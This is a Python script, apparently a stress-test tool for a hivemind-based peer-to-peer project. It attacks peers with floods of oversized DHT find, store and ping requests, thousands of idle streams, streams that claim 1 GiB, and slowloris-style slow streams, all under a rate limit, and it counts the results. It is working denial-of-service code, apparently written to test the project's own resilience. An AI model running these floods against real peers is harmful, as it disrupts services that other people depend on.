"""Attack peers from a separate process, in every way that is open to a stranger that can dial them.

    .venv/bin/python scripts/attack_stranger.py --seconds 60 --mbit 100 ADDRESS ...

    floods    DHT requests of 1.3 MB each (p2pd forwards at most 1.5 MB): lookups that list one key 60,000 times, stores
              of 7,000 records in the attacked peer's name without its signature, and pings with a huge node id. A
              request that the peer does not serve is refused before any data is sent; the script still repeats it,
              and counts its bytes towards the rate limit
    idle      2,000 streams that send nothing; reopened when they are closed
    claims    32 streams that announce 1 GiB and send as fast as the rate limit allows; reopened when they are closed,
              or when the peer stops reading
    loris     100 streams that send one byte of a message per second

A single rate limit covers all data that is sent. The script prints a line once it is connected to all peers and, at the
end, a line of JSON with the counts of requests and their results.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import resource
import signal
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from functools import partial
from itertools import cycle
from typing import Any

from hivemind.dht.routing import DHTID
from hivemind.p2p import P2P, P2PDaemonError, P2PHandlerError, PeerID
from hivemind.proto import dht_pb2
from hivemind.utils import MSGPackSerializer
from hivemind.utils.multiaddr import Multiaddr

from outerloop.swarm.transfer.uploads import RateLimiter

IDLE, CLAIMS, LORIS, FLOODS = 2000, 32, 100, 2
"""Total number of streams of each attack; FLOODS: number of concurrent DHT requests per kind and attacked peer."""
KEYS, RECORDS = 60_000, 7_000
RPCS = ("rpc_find", "rpc_store", "rpc_ping")
PING_BYTES = 1_300_000
CLAIMED_BYTES = 1 << 30
PIECE = bytes(64 * 1024)
AGAIN_S = 5.0
"""Seconds before an idle or slow stream is reopened; also the timeout of a DHT request."""
SOON_S = 0.1
"""Seconds before a claim or a DHT request is repeated, so that refusals do not cause a busy loop."""
STALLED_S = 0.5
"""Timeout in seconds for sending one piece. If it is exceeded, all buffers are full, because the peer does not read."""
PARTS = (
    *("members", "setting", "roster", "incarnation", "opening/meeting", "meeting"),
    *("ballot", "payload", "bulk", "commits", "expelled", "snapshot", "state/bulk", "corpus", "corpus/bulk"),
    *("contributors", "audit", "audit/bulk"),
)
PROTOCOLS = [
    "outerloop/1/probe",
    "outerloop/1/manifest",
    "outerloop/1/invites",
    *(f"outerloop/1/default/{part}" for part in PARTS),
]
"""All protocols that a peer serves in a run with the default name whose peers share their data and audit each other."""


class Stranger:
    """The attacker, which counts its requests and their results in `done`."""

    def __init__(self, p2p: P2P, victims: list[PeerID], *, mbit: float) -> None:
        self.p2p, self.victims, self.pace = p2p, victims, RateLimiter(mbit * 1e6 / 8)
        self.done: Counter[str] = Counter()

    async def attack(self, seconds: float) -> None:
        """Run all attacks concurrently for this many seconds."""
        places = zip(cycle(self.victims), cycle(PROTOCOLS), range(IDLE + CLAIMS + LORIS), strict=False)
        ways = [self.idle] * IDLE + [self.claim] * CLAIMS + [self.loris] * LORIS
        streams = [self.again(way, victim, protocol) for way, (victim, protocol, _) in zip(ways, places, strict=True)]
        floods = [self.again(self.flood, victim, rpc) for victim in self.victims for rpc in RPCS for _ in range(FLOODS)]
        work = asyncio.gather(*streams, *floods)
        with suppress(TimeoutError):
            async with asyncio.timeout(seconds):
                await work

    async def again(self, way: Callable[[PeerID, str], Awaitable[None]], victim: PeerID, protocol: str) -> None:
        """Repeat one attack indefinitely, regardless of its result."""
        while True:
            try:
                await way(victim, protocol)
            except Exception as error:  # any error from the peer or the daemon
                self.done[f"{way.__name__}: {type(error).__name__}"] += 1
            await asyncio.sleep(AGAIN_S if way in (self.idle, self.loris) else SOON_S)

    async def idle(self, victim: PeerID, protocol: str) -> None:
        _, reader, writer = await self.p2p.call_binary_stream_handler(victim, protocol)
        self.done["idle: opened"] += 1
        try:
            while await reader.read(1024):
                pass
        finally:
            writer.close()

    async def claim(self, victim: PeerID, protocol: str) -> None:
        await self.send(victim, protocol, CLAIMED_BYTES, PIECE, pause_s=0.0)

    async def loris(self, victim: PeerID, protocol: str) -> None:
        await self.send(victim, protocol, 1000, b"x", pause_s=1.0)

    async def send(self, victim: PeerID, protocol: str, claimed: int, piece: bytes, *, pause_s: float) -> None:
        """Announce `claimed` bytes, then send pieces until the peer closes the stream or stops reading."""
        _, reader, writer = await self.p2p.call_binary_stream_handler(victim, protocol)
        closed = asyncio.create_task(reader.read(1))
        try:
            writer.write(claimed.to_bytes(8, "big") + os.urandom(32))
            while not closed.done():
                await self.pace.take(len(piece))
                writer.write(piece)
                async with asyncio.timeout(STALLED_S):
                    await writer.drain()
                self.done["bytes"] += len(piece)
                await asyncio.sleep(pause_s)
        finally:
            closed.cancel()
            writer.close()

    async def flood(self, victim: PeerID, rpc: str) -> None:
        """Send one DHT request, and count its result."""
        requests: dict[str, Callable[[], tuple[Any, Any]]] = {
            "rpc_find": find,
            "rpc_store": partial(store, victim),
            "rpc_ping": ping,
        }
        request, answer = requests[rpc]()
        await self.pace.take(request.ByteSize())
        self.done[rpc] += 1
        try:
            async with asyncio.timeout(AGAIN_S):
                await self.p2p.call_protobuf_handler(victim, f"DHTProtocol.{rpc}", request, answer)
            self.done[f"{rpc}: answered"] += 1
        except P2PHandlerError:
            self.done[f"{rpc}: refused"] += 1
        except P2PDaemonError as error:
            if "protocols not supported" not in str(error):
                raise
            self.done[f"{rpc}: not served"] += 1
            return
        self.done["bytes"] += request.ByteSize()


def find() -> tuple[Any, Any]:
    """Return a DHT lookup request that lists one key many times, and its response class."""
    return dht_pb2.FindRequest(keys=[roster()] * KEYS, peer=new_node()), dht_pb2.FindResponse


def ping() -> tuple[Any, Any]:
    """Return a DHT ping request with a node id of PING_BYTES, and its response class."""
    return dht_pb2.PingRequest(peer=dht_pb2.NodeInfo(node_id=bytes(PING_BYTES))), dht_pb2.PingResponse


def store(owner: PeerID) -> tuple[Any, Any]:
    """Return a DHT store request with many records that `owner` did not sign, and its response class."""
    request = dht_pb2.StoreRequest(
        keys=[roster()] * RECORDS,
        subkeys=[MSGPackSerializer.dumps(owner.to_base58())] * RECORDS,
        values=[bytes(100)] * RECORDS,
        expiration_time=[time.time() + 60] * RECORDS,
        in_cache=[False] * RECORDS,
        peer=new_node(),
    )
    return request, dht_pb2.StoreResponse


def roster() -> bytes:
    return DHTID.generate("outerloop/default/roster").to_bytes()


def new_node() -> Any:
    """Return a DHT node with a new random id."""
    return dht_pb2.NodeInfo(node_id=DHTID.generate().to_bytes())


async def run(addresses: list[str], *, seconds: float, mbit: float) -> Counter[str]:
    """Attack the peers at these addresses for `seconds`, or until SIGTERM. Return the counts."""
    victims = [PeerID.from_base58(address.rpartition("/p2p/")[2]) for address in addresses]
    p2p = await P2P.create(
        initial_peers=[Multiaddr(address) for address in addresses], dht_mode="client", auto_nat=False,
        nat_port_map=False, use_relay=False, idle_timeout=3600, startup_timeout=60,
    )  # fmt: skip
    stranger = Stranger(p2p, victims, mbit=mbit)
    attack = asyncio.ensure_future(stranger.attack(seconds))
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, attack.cancel)
    print("connected", flush=True)
    try:
        with suppress(asyncio.CancelledError):
            await attack
    finally:
        await p2p.shutdown()
    return stranger.done


def main() -> None:
    """Attack, then print the counts of requests and results, and the CPU time of this process and its daemon."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("addresses", nargs="+", metavar="ADDRESS")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--mbit", type=float, default=100.0)
    args = parser.parse_args()
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.nice(19)  # leave the CPU to the attacked peers
    began = time.monotonic()
    done = asyncio.run(run(args.addresses, seconds=args.seconds, mbit=args.mbit))
    took_s = time.monotonic() - began
    cpu = [resource.getrusage(who) for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    cpu_s = sum(one.ru_utime + one.ru_stime for one in cpu)
    print(json.dumps({**done, "mbit_s": round(done["bytes"] * 8e-6 / took_s, 1), "cpu_s": round(cpu_s, 1)}))


if __name__ == "__main__":
    main()
